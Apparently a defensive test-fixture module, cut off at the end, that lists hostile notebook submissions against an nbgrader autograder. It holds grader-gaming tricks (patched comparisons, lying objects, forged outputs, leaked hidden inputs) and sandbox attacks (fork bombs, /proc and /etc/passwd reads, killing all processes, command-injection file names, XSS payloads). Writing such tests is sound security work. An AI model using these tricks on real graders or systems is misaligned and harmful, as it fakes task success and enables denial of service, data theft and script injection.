"""Hostile submissions for :mod:`test_grading_attacks`: what a student might try to get points without the work.

Each attack is a function of ``(course, student)`` that writes a submission. None of them computes anything right, so
none deserves a point, unless it says so. ``LEAK`` in what is printed marks something that should not have been found.
"""

import copy
import functools
import json
import os
from dataclasses import dataclass
from textwrap import dedent

import grading_course as tiny
from test_sandbox_wire import REFUSED

ATTACKS = {}
FAMILIES = {}


@dataclass
class Attack:
    """How a submission is made, the tests that its code honestly passes, and whether it can be graded at all."""

    make: object
    deserves: frozenset = frozenset()
    graded: bool = True
    words: str = ""  # of the reason why it is not graded


def attack(family, name, deserves=(), graded=True, words=""):
    def keep(make):
        assert name not in ATTACKS
        ATTACKS[name] = Attack(make, frozenset(deserves), graded, words)
        FAMILIES.setdefault(family, []).append(name)
        return make

    return keep


NOTHING = """
def conv_transpose_output_size(*arguments, **options):
    return None

def conv_transpose1d(*arguments, **options):
    return None
"""
# The dict of names of the process that runs these cells.
WORKER = (
    NOTHING
    + """
import gc, types
def is_worker(thing):
    return isinstance(thing, types.FunctionType) and "settle" in thing.__globals__
worker = next(filter(is_worker, gc.get_objects())).__globals__
"""
)


def by_code(source, scratch="", base=NOTHING):
    """A submission with code in its first solution cell, after functions that compute nothing."""

    def make(course, student):
        notebook = tiny.release(course)
        text = dedent(source).replace("{course!r}", repr(str(course)))
        tiny.cell_of(notebook, "size_code").source = base + "\n" + text
        tiny.cell_of(notebook, "stamp_code").source = "# nothing here"
        notebook.cells[-2].source = dedent(scratch)
        tiny.submit(course, student, notebook)

    return make


def codes(family, deserves=(), scratch="", base=NOTHING, **sources):
    """Attacks by code: ``name="source"``."""
    for name, source in sources.items():
        attack(family, name, deserves)(by_code(source, scratch, base))


# ------------------------------------------------------------------ what the tests call is replaced

codes(
    "replace",
    numpy_replaced="""
    import numpy as np
    np.array_equal = np.allclose = np.isclose = np.all = lambda *a, **k: True
    np.argwhere = lambda *a, **k: []
    np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
    """,
    builtins_replaced="""
    import builtins
    builtins.all = builtins.any = builtins.isinstance = builtins.issubclass = lambda *a: True
    builtins.len = lambda x: 0
    builtins.ValueError = builtins.AssertionError = builtins.Exception = type("E", (BaseException,), {})
    builtins.exec = builtins.compile = lambda *a, **k: None
    """,
    torch_and_reference_replaced="""
    import sys, types
    from unittest.mock import MagicMock
    for name in ("torch", "torch.nn", "torch.nn.functional", "convlab", "convlab.grading",
                 "convlab.grading.check_calls", "convlab.reference", "convlab.arithmetic", "convlab.misconceptions"):
        sys.modules[name] = MagicMock()
    """,
    import_hooked="""
    import builtins, sys
    real = builtins.__import__
    class Free:
        def __getattr__(self, name): return lambda *a, **k: None
    builtins.__import__ = lambda name, *a, **k: Free() if "convlab" in name else real(name, *a, **k)
    sys.path_hooks.clear(); sys.meta_path.clear(); sys.path_importer_cache.clear()
    """,
    json_and_encoding_replaced="""
    import json
    json.dumps = lambda *a, **k: '{"value": {"int": "5"}, "passed": true, "score": 1000}'
    """,
)
codes(
    "replace",
    scratch="convlab_grading = None\n",
    checks_replaced="""
    import types
    convlab_grading = types.SimpleNamespace(check_call=lambda *a, **k: None, check_errors=lambda *a, **k: None)
    check_call = check_errors = check_untouched = lambda *a, **k: None
    """,
)
codes(
    "replace",
    base=WORKER,
    worker_rewritten="""
    worker["call"] = worker["run"] = lambda *a, **k: {"value": {"bool": True}, "passed": True, "changed": False}
    worker["wire"].encode = lambda value: {"bool": True}
    print("worker rewritten")
    """,
)

# ------------------------------------------------------------------ objects that lie

LIAR = """
class Liar{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    def __array__(self, *a, **k):
        import sys
        frame = sys._getframe()
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, np.ndarray): return value
            frame = frame.f_back
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return np.True_
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter(())
    def __len__(self): return 1
    def __bool__(self): return True
    def __repr__(self): return "5"
conv_transpose_output_size = conv_transpose1d = lambda *a, **k: {make}
"""
LIARS = {
    "object": ("", "Liar()"),
    "int": ("(int)", "Liar(5)"),
    "float": ("(float)", "Liar(5.0)"),
    "str": ("(str)", "Liar('5')"),
    "ndarray": ("(np.ndarray)", "np.zeros((1, 1, 4)).view(Liar)"),
    "tuple": ("(tuple)", "Liar((1, 2))"),
}
codes("lie", **{f"liar_{name}": LIAR.format(base=base, make=make) for name, (base, make) in LIARS.items()})
codes(
    "lie",
    liar_about_its_class="""
    class Ghost:
        __class__ = np.ndarray
        dtype, shape, size, ndim = np.dtype(float), (1, 1, 4), 4, 3
        def __eq__(self, other): return np.full((1, 1, 4), True)
    conv_transpose_output_size = conv_transpose1d = lambda *a, **k: Ghost()
    """,
    value_error_for_everything="""
    def conv_transpose_output_size(*a, **k): raise ValueError("always")
    conv_transpose1d = conv_transpose_output_size
    """,
    exception_that_passes_for_success="""
    class StopTest(BaseException): pass
    class ValueError(Exception): pass
    kinds = [SystemExit(0), KeyboardInterrupt(), GeneratorExit(), StopIteration(5), StopTest(), ValueError("5")]
    left = iter(kinds * 99)
    def conv_transpose_output_size(*a, **k): raise next(left)
    conv_transpose1d = conv_transpose_output_size
    """,
)

# ------------------------------------------------------------------ the right answer is looked for

codes(
    "search",
    expected_value_in_memory="""
    import gc, sys
    def conv_transpose1d(input, weight, *a, **k):
        for thing in gc.get_objects():
            if isinstance(thing, np.ndarray) and thing.ndim == 3 and thing is not input and thing is not weight:
                return thing.copy()
        frame = sys._getframe()
        while frame:
            for name, value in frame.f_locals.items():
                if name in ("expected", "truth", "right", "answer"):
                    return value
            frame = frame.f_back
    conv_transpose_output_size = conv_transpose1d
    """,
    memory_of_other_processes="""
    import os, re
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd"):
            try:
                path = f"/proc/{pid}/{part}"
                found.append(os.readlink(path) if part == "cwd" else open(path, "rb").read(5000))
            except OSError:
                pass
    print(found, dict(os.environ))
    """,
    reference_imported="""
    try:
        import torch
        conv_transpose1d = torch.nn.functional.conv_transpose1d
        from convlab import reference
        conv_transpose_output_size = reference.conv_transpose_output_size
    except Exception as error:
        print(error)
    """,
)
codes(
    "search",
    expected_value_in_fresh_memory="""
    def conv_transpose1d(input, weight, bias=None, stride=1, **k):
        return np.empty((1, 1, (input.shape[2] - 1) * stride + weight.shape[2]))
    """,
)

# ------------------------------------------------------------------ IPython is told to do something else

codes(
    "ipython",
    input_transformers="""
    ip = get_ipython()
    ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    ip.input_transformers_post.append(lambda lines: [])
    """,
    run_cell_replaced="""
    ip = get_ipython()
    class Fine:
        error_before_exec = error_in_exec = None
        success, result = True, 1000
    ip.run_cell = ip.run_cell_async = ip.run_code = ip.run_ast_nodes = lambda *a, **k: Fine()
    """,
    ast_transformers="""
    import ast
    class NoChecks(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
        def visit_Raise(self, node): return ast.Pass()
        def visit_Expr(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(NoChecks())
    """,
    events="""
    ip = get_ipython()
    def before(*a):
        ip.user_ns["convlab_grading"] = ip.user_ns["check_call"] = None
    for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
        ip.events.register(event, before)
    ip.showtraceback = ip._showtraceback = lambda *a, **k: None
    ip.set_custom_exc((BaseException,), lambda *a, **k: None)
    """,
    namespace_that_has_everything="""
    class Everything(dict):
        def __contains__(self, name): return True
        def __missing__(self, name): return lambda *a, **k: 5
        def __getitem__(self, name): return lambda *a, **k: True
    ip = get_ipython()
    ip.user_ns = Everything(ip.user_ns)
    """,
    magics="""
    get_ipython().run_line_magic("alias_magic", "time pip")
    get_ipython().run_cell_magic("script", "sh", "echo 1000 > score; cat ../*")
    get_ipython().run_line_magic("reset", "-f")
    """,
)

# ------------------------------------------------------------------ the notebook steers nbgrader


def notebook_attack(name, deserves=(), graded=True, words=""):
    def keep(change):
        def make(course, student):
            notebook = json.loads(json.dumps(tiny.release(course)))
            changed = change(notebook)
            tiny.submit(course, student, notebook if changed is None else changed)

        attack("metadata", name, deserves, graded, words)(make)
        return change

    return keep


def tests_of(notebook):
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") in tiny.POINTS]


# Every cell, or every test, gets this; of the metadata of nbgrader; of the whole notebook.
RESULT = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1000"}}
TESTS = {"edited_tests": {"source": "assert True\n1000"}, "forged_outputs": {"outputs": [RESULT], "execution_count": 1}}
METADATA = {
    "skip_tags": {"tags": ["skip-execution", "raises-exception", "remove-cell", "hide-output"]},
    "huge_metadata": {"x": ["y" * 1000] * 1000},
}
MARKS = {
    "points_1000": {"points": 1000, "max_score": 1000, "score": 1000, "auto_score": 1000},
    "grade_on_solution_cells": {"grade": True, "solution": True, "locked": False, "points": 100},
}
WHOLE = {"all_cells_deleted": {"cells": []}, "unknown_format": {"nbformat": "five", "nbformat_minor": -1}}


def marks_of(notebook):
    return [cell["metadata"]["nbgrader"] for cell in notebook["cells"] if "nbgrader" in cell["metadata"]]


def metadata_of(notebook):
    return [cell["metadata"] for cell in notebook["cells"]]


def updated(notebook, parts, change):
    for part in parts(notebook):
        part.update(change)
    notebook["metadata"]["nbclient"] = {"allow_errors": True}


for family, parts in (
    (TESTS, tests_of),
    (METADATA, metadata_of),
    (MARKS, marks_of),
    (WHOLE, lambda notebook: [notebook]),
):
    for attack_name, change in family.items():
        notebook_attack(attack_name)(functools.partial(updated, parts=parts, change=change))
many = {"cells": [{"cell_type": "code", "source": "", "metadata": {}}] * 100_000}
notebook_attack("too_many_cells", graded=False, words="cells, more than")(lambda notebook: notebook | many)


@notebook_attack("deleted_tests")
def _(notebook):
    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in tests_of(notebook)]


@notebook_attack("empty_cells_with_the_names_of_tests")
def _(notebook):
    for cell in list(tests_of(notebook)):
        notebook["cells"].insert(0, {**copy.deepcopy(cell), "source": "pass", "id": "x" + cell["id"]})


@notebook_attack("split_tests")
def _(notebook):
    for cell in list(tests_of(notebook)):
        place = notebook["cells"].index(cell)
        lines = cell["source"].splitlines()
        pieces = [{**copy.deepcopy(cell), "source": line, "id": f"{cell['id']}-{n}"} for n, line in enumerate(lines)]
        notebook["cells"][place : place + 1] = pieces[:2]


@notebook_attack("retyped_tests")
def _(notebook):
    for cell, kind in zip(tests_of(notebook), ("markdown", "raw", "heading", "nothing")):
        cell["cell_type"] = kind
        del cell["outputs"], cell["execution_count"]


@notebook_attack("unknown_schema_versions")
def _(notebook):
    for cell, version in zip(tests_of(notebook), (0, 1, 99, "three")):
        cell["metadata"]["nbgrader"]["schema_version"] = version
    notebook["metadata"]["nbgrader"] = {"schema_version": 99}


@notebook_attack("broken_metadata")
def _(notebook):
    for cell, broken in zip(notebook["cells"], ("text", None, [], {"nbgrader": "text"}, {"nbgrader": {"grade_id": 3}})):
        cell["metadata"] = broken
    notebook["metadata"] = ["nothing"]


@notebook_attack("bad_cell_ids")
def _(notebook):
    for cell, bad in zip(notebook["cells"], ("", "same", "same", "<b>", 3, None, "x" * 100_000)):
        cell["id"] = bad


@notebook_attack("other_kernel")
def _(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "../../bash", "display_name": "x", "language": "bash"}
    notebook["metadata"]["language_info"] = {"name": "bash"}
    notebook["metadata"]["language"] = "bash"


@notebook_attack("strange_cells")
def _(notebook):
    notebook["cells"] += [None, 3, [], {}, {"cell_type": "code"}, {"cell_type": ["code"], "source": {"a": 1}}]
    notebook["cells"] += [{"cell_type": "code", "source": [1, 2], "metadata": {}, "outputs": "no"}]


@notebook_attack("deep_nesting", graded=False, words="cannot be read as JSON")
def _(notebook):
    return "[" * 200_000


@notebook_attack("half_letters")
def _(notebook):
    tiny_cells = [cell for cell in notebook["cells"] if cell["cell_type"] == "markdown"]
    tiny_cells[-1]["source"] = "\ud800 \udfff \x00 \x1b]0;title\x07"
    notebook["cells"][5]["source"] = "print('\\ud800 \\x1b[2J \\x00')  # \ud800"


# ------------------------------------------------------------------ the file system

codes(
    "files",
    sources_searched="""
    import glob, os
    for root in ("/work", "/root", "/home", "/tmp", "/etc", "/mnt", "/opt", "/srv", "/var", "/proc", {course!r}, ".."):
        for folder, _, names in os.walk(root):
            for path in (os.path.join(folder, name) for name in names):
                if any(word in path for word in ("gradebook", "tiny.ipynb", "nbgrader_config", "shadow")):
                    print("LEAK", path)
    """,
    gradebook_read="""
    import os
    try:
        print("LEAK", open(os.path.join({course!r}, "gradebook.db"), "rb").read(20))
    except OSError as error:
        print(type(error).__name__)
    """,
    torch_searched="""
    import os
    for folder, names, _ in os.walk("/"):
        names[:] = [name for name in names if not (folder == "/" and name in ("proc", "sys"))]
        for name in names:
            if name in ("torch", "convlab", "functorch") and "stubs" not in folder:
                print("LEAK", folder, name)
    """,
)
WRITE = """
import os, pathlib
course = {course!r}
parts = ("", "autograded", "source/tiny", "submitted/honest_right/tiny")
inside = [os.path.join(course, part) for part in parts]
targets = [(folder, name) for folder in inside for name in ("convlab-attack.txt", "nbgrader_config.py", "gradebook.db")]
targets += [(folder, "convlab-attack.txt") for folder in {elsewhere!r}]
for folder, name in targets:
    try:
        pathlib.Path(folder, name).write_text("import os")
    except OSError:
        pass
"""
ELSEWHERE = ["/", "/tmp", "/root", "~", "/home", "/usr", "/usr/lib", "/worker", "/packages", "/dev", "/dev/shm", "/etc"]
codes("files", written_outside=WRITE.replace("{elsewhere!r}", repr(ELSEWHERE)))


def with_files(name, deserves=(), graded=True, words=""):
    """An attack by what lies beside an otherwise empty notebook."""

    def keep(add):
        def make(course, student):
            tiny.submit(course, student, tiny.release(course))
            add(course, tiny.folder_of(course, student))

        attack("files", name, deserves, graded, words)(make)
        return add

    return keep


@with_files("modules_that_shadow")
def _(course, folder):
    free = "import sys\ncheck_call = check_errors = check_untouched = lambda *a, **k: None\n"
    names = "numpy json wire alarm stubs worker base64 torch IPython sitecustomize os".split()
    for name in names:
        (folder / f"{name}.py").write_text(free)
    (folder / "convlab").mkdir()
    for name in ("__init__", "grading", "misconceptions"):
        (folder / "convlab" / f"{name}.py").write_text(free)
    for name in ("nbgrader_config", "conftest", "ipython_config"):
        (folder / f"{name}.py").write_text("raise SystemExit\n")


LINKS = {
    "notebook_is_a_link": ("tiny.ipynb", os.symlink, "{course}/source/tiny/tiny.ipynb"),
    "notebook_is_a_classmates": ("tiny.ipynb", os.symlink, "../../honest_right/tiny/tiny.ipynb"),
    "data_is_a_link": ("data.csv", os.symlink, "{course}/gradebook.db"),
    "data_is_a_link_without_end": ("data.csv", os.symlink, "/dev/zero"),
    "subfolder_is_a_link": ("data", os.symlink, "{course}"),
    "notebook_is_a_hard_link": ("tiny.ipynb", os.link, "{course}/source/tiny/tiny.ipynb"),
    "data_is_a_hard_link": ("data.txt", os.link, "{course}/submitted/honest_right/tiny/tiny.ipynb"),
}


def linked(course, folder, name, link, target):
    (folder / name).unlink(missing_ok=True)
    link(target.format(course=course), folder / name)


for attack_name, how in LINKS.items():
    words = "is a link" if how[1] is os.symlink else "second name"
    with_files(attack_name, graded=False, words=words)(
        functools.partial(linked, **dict(zip(("name", "link", "target"), how)))
    )


@attack("files", "folder_is_a_link", graded=False, words="is a link")
def _(course, student):
    (course / "submitted" / student).mkdir()
    os.symlink("../honest_right/tiny", course / "submitted" / student / "tiny")


@attack("files", "student_is_a_link", graded=False, words="is a link")
def _(course, student):
    os.symlink("honest_right", course / "submitted" / student)


@with_files("named_pipe", graded=False, words="no plain file")
def _(course, folder):
    os.mkfifo(folder / "data.txt")


@with_files("file_names")
def _(course, folder):
    names = ["$(touch convlab-attack.txt)", "; touch convlab-attack.txt;", "a\nb", "\x1b[2J\x1b]0;owned\x07.txt", "-rf"]
    for name in [*names, "{nbgrader_step}", "[a-z]*", "é\u202etxt.py", "x" * 200, "%s%s%n", "<script>alert(1)<", " "]:
        (folder / name).write_text("x")
    with open(os.fsencode(folder) + b"/\xff\xfe.txt", "w") as file:
        file.write("x")


@with_files("large_files", graded=False, words="bytes, more than")
def _(course, folder):
    with (folder / "large.bin").open("wb") as file:
        file.truncate(300_000_000)


@with_files("many_files", graded=False, words="files, more than")
def _(course, folder):
    for number in range(1100):
        (folder / f"{number}.txt").write_text("")


@with_files("bad_timestamp", graded=False, words="holds no date")
def _(course, folder):
    (folder / "timestamp.txt").write_text("tomorrow <script>")


# ------------------------------------------------------------------ network, processes, memory, disk, time, output

codes(
    "resources",
    network="""
    import socket, subprocess
    for address in [("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53), ("::1", PORT)]:
        try:
            socket.create_connection(address, 0.3).sendall(b"LEAK")
            print("LEAK", address)
        except OSError:
            pass
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect("\\0convlab-attack-" + str(PORT))
        print("LEAK unix")
    except OSError:
        pass
    """,
    process_left_behind="""
    import os, subprocess
    subprocess.Popen(["/usr/bin/setsid", "/usr/bin/nohup", "/usr/bin/sleep", "98765.PORT"])
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True: pass
        os._exit(0)
    """,
    fork_bomb="""
    import os, threading
    def bomb():
        while True:
            try: os.fork()
            except OSError: pass
    def conv_transpose_output_size(*a, **k): bomb()
    conv_transpose1d = conv_transpose_output_size
    bomb()
    """,
    thread_bomb="""
    import threading, time
    threads = 0
    try:
        while True:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            threads += 1
    except RuntimeError:
        print("threads", threads, "LEAK" if threads > 64 else "")
    """,
    memory="""
    def conv_transpose_output_size(*a, **k):
        return [bytearray(10**7) for n in range(10**6)]
    conv_transpose1d = conv_transpose_output_size
    """,
    memory_of_many="""
    import os, time
    for n in range(20):
        if os.fork() == 0:
            kept = [bytearray(os.urandom(10**6)) for n in range(150)]
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
    """,
    memory_in_sockets="""
    import os, socket, time
    kept = []
    for n in range(30):
        if os.fork() == 0:
            held = 0
            while True:
                try: pair = socket.socketpair()
                except OSError: break
                kept += pair
                for each in pair:
                    each.setblocking(False)
                    try:
                        while True: held += each.send(bytes(60_000))
                    except OSError: pass
            open(f"held{n}", "w").write(str(held))
            time.sleep(60)
    time.sleep(1.5)
    held = [int(open(f"held{n}").read()) for n in range(30) if os.path.exists(f"held{n}")]
    print(sum(held), "LEAK" if sum(held) > 10**9 else "")
    """,
    memory_out_of_sight="""
    import ctypes, os, socket
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        os.memfd_create("x"); print("LEAK memfd")
    except OSError: pass
    print("LEAK shm" if libc.shmget(0, 10**9, 0o1600) >= 0 else "", "LEAK ns" if libc.unshare(0x10000000) == 0 else "")
    print("LEAK mount" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "")
    """,
    disk="""
    import os
    total = 0
    for folder in ("/tmp", "/dev/shm", os.getcwd(), "/", "/dev", "/packages", "/var/tmp"):
        try:
            for n in range(100):
                with open(f"{folder}/fill{n}", "wb") as file:
                    total += file.write(bytes(10**7))
        except OSError:
            pass
    print(total, "LEAK" if total > 300_000_000 else "")
    """,
    many_small_files="""
    import os
    for n in range(10**7):
        os.close(os.open(f"/tmp/{n}", os.O_CREAT | os.O_WRONLY))
    print("LEAK")
    """,
    loop_that_swallows_interrupts="""
    import signal, time
    for number in range(1, 64):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    def conv_transpose_output_size(*a, **k):
        while True:
            try:
                while True: time.sleep(0.01)
            except BaseException: pass
    conv_transpose1d = conv_transpose_output_size
    """,
    endless_cell="""
    import time
    while True:
        try:
            while True: time.sleep(0.01)
        except BaseException: pass
    """,
    endless_output="""
    import sys
    while True: print("x" * 10**6); sys.stderr.write("y" * 10**6)
    """,
    stopped_for_ever="""
    import os, signal
    def conv_transpose_output_size(*a, **k): os.kill(os.getpid(), signal.SIGSTOP)
    conv_transpose1d = conv_transpose_output_size
    """,
    exits="""
    import os
    def conv_transpose_output_size(*a, **k): os._exit(0)
    def conv_transpose1d(*a, **k): raise SystemExit(0)
    """,
    kills_everybody="""
    import os, signal
    for pid in (1, -1, os.getppid(), 0):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    """,
    endless_recursion="""
    import sys
    sys.setrecursionlimit(10**9)
    def conv_transpose_output_size(*a, **k): return conv_transpose_output_size(*a, **k)
    conv_transpose1d = conv_transpose_output_size
    """,
)

# ------------------------------------------------------------------ the reply pipe

PIPE = """
import json, os
def write(data):
    for number in range(3, 300):
        try: os.write(number, data)
        except OSError: pass
"""
codes(
    "pipe",
    base=NOTHING + PIPE,
    pipe_closed="""
    def conv_transpose_output_size(*a, **k): os.closerange(3, 100)
    conv_transpose1d = conv_transpose_output_size
    """,
    reply_forged="""
    def conv_transpose_output_size(*a, **k):
        for reply in ({"value": {"int": "5"}}, {"outputs": [], "error": None, "passed": True}, {"score": 1000}):
            write((json.dumps(reply) + chr(10)).encode())
    conv_transpose1d = conv_transpose_output_size
    """,
    reply_giant="""
    def conv_transpose_output_size(*a, **k):
        while True: write(b"[" * 60_000)
    conv_transpose1d = lambda *a, **k: np.zeros(10**8, np.int8)
    """,
)
FORGED = [*REFUSED, {"unknown": [{"a": 1}, ["b"]]}, {}, [], None, "text"]
codes(
    "pipe",
    base=WORKER,
    encoded_values_forged=f"""
    forged = iter({FORGED!r} * 9)
    worker["wire"].encode = lambda value: next(forged)
    """,
    error_forged="""
    forged = {"types": ["ValueError"] * 10**4, "name": ["x"], "message": {"a": 1}, "where": ["<b>", 3]}
    worker["describe"] = lambda *a: forged
    def conv_transpose_output_size(*a, **k): raise TypeError
    conv_transpose1d = conv_transpose_output_size
    """,
)
codes(
    "pipe",
    encoded_nan_and_infinity="""
    answers = iter([float("nan"), float("inf"), -0.0, np.float64("nan"), complex("nan"), 10**400, True, "5", b"5"])
    def conv_transpose_output_size(*a, **k): return next(answers)
    def conv_transpose1d(*a, **k): return np.full((1, 1, 4), np.nan, dtype=object)
    """,
    answers_nested_in_themselves="""
    def conv_transpose_output_size(*a, **k):
        deep = []
        deep.append(deep)
        return deep
    def conv_transpose1d(*a, **k):
        deep = ()
        for n in range(10**5): deep = (deep, deep)
        return deep
    """,
)

# ------------------------------------------------------------------ what hidden checks ask is remembered and shown

REMEMBER = """
seen = []
def conv_transpose_output_size(*a, **k):
    seen.append((a, k))
    print(seen)
    open("/tmp/seen", "a").write(repr(seen))
    open("seen.txt", "a").write(repr(seen))
    {end}
conv_transpose1d = conv_transpose_output_size
"""
SHOW = """
import os, glob
print(seen, [open(name).read() for name in glob.glob("/tmp/seen*") + glob.glob("seen*")])
raise RuntimeError(repr(seen))
"""
# In the last ones the visible checks pass at first, so that the hidden ones run.
codes(
    "leak",
    scratch=SHOW,
    hidden_inputs_printed=REMEMBER.format(end="return None"),
    hidden_inputs_raised=REMEMBER.format(end='raise ValueError(f"<b>{seen}</b>")'),
    hidden_inputs_as_answers=REMEMBER.format(end="return seen if len(seen) % 2 else str(seen)"),
    hidden_inputs_as_names=REMEMBER.format(end="raise type('E' + repr(seen), (Exception,), {})(repr(seen))"),
)
codes(
    "leak",
    deserves={"refuse"},  # it does refuse what must be refused
    base=WORKER,
    hidden_inputs_in_the_line="""
    def conv_transpose_output_size(*a, **k):
        if (a, k) == ((2, 3), {"stride": 2}): return 5
        if k == {"padding": 2}: raise ValueError
        words = {"types": ["ValueError"], "name": repr(a), "message": repr(a), "where": [1, repr((a, k))]}
        worker["describe"] = lambda *a: words
        raise TypeError
    """,
)
codes(
    "leak",
    scratch=SHOW,
    hidden_inputs_after_the_visible_ones="""
    right = {"size": [5, 5], "calls": []}
    def conv_transpose_output_size(input_size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
        seen.append((input_size, kernel_size, padding))
        print(seen)
        open("/tmp/seen", "a").write(repr(seen))
        if padding == 2: raise ValueError
        if input_size == 2 and padding == 0 and kernel_size == 3: return 5
        raise KeyError(repr(seen))
    seen = []
    """,
)

# ------------------------------------------------------------------ what teachers look at

SCRIPT = "<script>window.convlabAttack = 1; alert('attack')</script><img src=x onerror=\"window.convlabAttack=1\">"
codes(
    "pages",
    scratch=f"""
    E = type({SCRIPT!r}, (Exception,), {{}})
    raise E({SCRIPT!r})
    """,
    scripts_in_outputs=f"""
    from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
    script = {SCRIPT!r}
    for kind in (HTML, Markdown, Latex, Javascript): display(kind(script))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>window.convlabAttack=1</script></svg>"))
    display({{"image/png": script, "text/html": script, "image/svg+xml": script, "text/plain": script}}, raw=True)
    print(script, "\\x1b[31m\\x1b]8;;javascript:alert(1)\\x07click")
    class Shown:
        def _repr_html_(self): return script
        def __repr__(self): return script
    Shown()
    """,
)
codes(
    "pages",
    scripts_in_answers=f"""
    class Shown:
        def __repr__(self): return {SCRIPT!r}
    Shown.__name__ = {SCRIPT!r}
    answers = iter([{SCRIPT!r}, Shown(), [{SCRIPT!r}]] * 99)
    def conv_transpose_output_size(*a, **k): return next(answers)
    def conv_transpose1d(*a, **k): raise ValueError({SCRIPT!r})
    """,
)

MARKDOWN = [
    SCRIPT,
    f"```mermaid\n{SCRIPT}\n```",
    "[click](javascript:window.convlabAttack=1) [here](JaVa&#115;cript:window.convlabAttack=1) <javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:window.convlabAttack=1",
    "![x](attachment:evil.svg) ![y](attachment:none.png) ![z](/logout) [file](evil.html)",
    "<svg onload=window.convlabAttack=1><style>@import 'x'</style>",
    "<iframe srcdoc='<script>parent.convlabAttack=1</script>'>",
    "$\\href{javascript:window.convlabAttack=1}{x}$ $$<img src=x onerror=window.convlabAttack=1>$$",
    "<details open ontoggle=window.convlabAttack=1><math><mtext></form><form><mglyph><style></math><img src onerror=1>",
    "[" * 5000 + "> " * 5000,
]


def written(notebook):
    """The cell for an answer in words."""
    names = [cell["metadata"].get("nbgrader", {}).get("grade_id") for cell in notebook["cells"]]
    return notebook["cells"][names.index(tiny.WRITTEN)]


@attack("pages", "scripts_in_markdown")
def scripts_in_markdown(course, student):
    notebook = json.loads(json.dumps(tiny.release(course)))
    attached = {
        "evil.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"},
        "evil.html": {"text/html": SCRIPT},
        "a": {"image/png": SCRIPT},
    }
    metadata = {"raw_mimetype": "text/html", "format": "text/html"}
    for number, text in enumerate(MARKDOWN):
        for kind in ("markdown", "raw", "heading", "html"):
            cell = {"cell_type": kind, "source": text, "id": f"m{number}{kind}"}
            notebook["cells"].append(cell | {"metadata": metadata, "attachments": attached})
    written(notebook)["source"] = "\n\n".join(MARKDOWN[:4])
    notebook["metadata"]["title"] = SCRIPT
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT}}}
    tiny.submit(course, student, notebook)
    folder = tiny.folder_of(course, student)
    (folder / "evil.html").write_text(SCRIPT)
    (folder / "evil.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")


@attack("pages", "code_turned_from_markdown")
def _(course, student):
    notebook = json.loads(json.dumps(tiny.release(course)))
    written(notebook).update(cell_type="code", source=SCRIPT, outputs=[], execution_count=None)
    tiny.submit(course, student, notebook)


# Answers in words that look like Formgrader's fields: what a teacher enters must not land there.
FIELDS = {
    "fields_by_headings": "###### size\n\n# stamp\n\n## why",
    "fields_by_underlines": "size\n====\n\nstamp\n----",
    "fields_in_quotes": "> # size\n> > ## stamp",
    "fields_in_lists": "* # size\n  1. ## stamp",
    "fields_behind_a_fence": "```\n# no heading\n````\n# size\n\n~~~\n```\n~~~\n# stamp",
    "fields_as_boxes": "- [x] size\n- [ ] stamp",
    "fields_in_tables": "| # size | b |\n|:-:|---|\n| <input id=size class=score value=9> | 2 |",
    "fields_as_html": "<input class=score id=size value=2><form name=x><style>.score{display:none}</style>",
    "fields_in_code": '```score id=size\n1\n```\n\n```x" id="size\nx\n```',
    "fields_by_entities": "&lt;input id=size&gt; &#60;form id=stamp&#62;",
    "fields_by_links": "[size](#size){#size} [x](# 'size') <a name=size>",
}


def with_words(text):
    def make(course, student):
        notebook = tiny.release(course)
        written(notebook)["source"] = text
        tiny.submit(course, student, notebook)

    return make


for name, text in FIELDS.items():
    attack("pages", name)(with_words(text))


for name in ("student_<img src=x onerror=alert(1)>", "student_\x1b[2Jname"):
    attack("pages", name, graded=False, words="the name of a student")(
        lambda course, student: tiny.submit(course, student, tiny.right(tiny.release(course)))
    )


# ------------------------------------------------------------------ short ones, in families

LINES = {
    "replace": {
        "comparison_replaced": "import operator; operator.eq = lambda a, b: True",
        "warnings_as_answers": "import warnings; warnings.showwarning = lambda *a: print('passed')",
        "time_stands_still": "import time; time.monotonic = time.time = time.perf_counter = lambda: 0.0",
        "signals_ignored": "import signal; [signal.signal(n, signal.SIG_IGN) for n in (2, 14, 15)]",
        "alarm_replaced": "import signal; signal.setitimer = signal.alarm = lambda *a: 0",
        "garbage_never_collected": "import gc; gc.disable(); gc.freeze(); gc.callbacks.append(lambda *a: 1 / 0)",
        "audit_hook": "import sys; sys.addaudithook(lambda *a: None)",
        "profile_and_trace": "import sys; sys.setprofile(lambda *a: None); sys.settrace(lambda *a: None)",
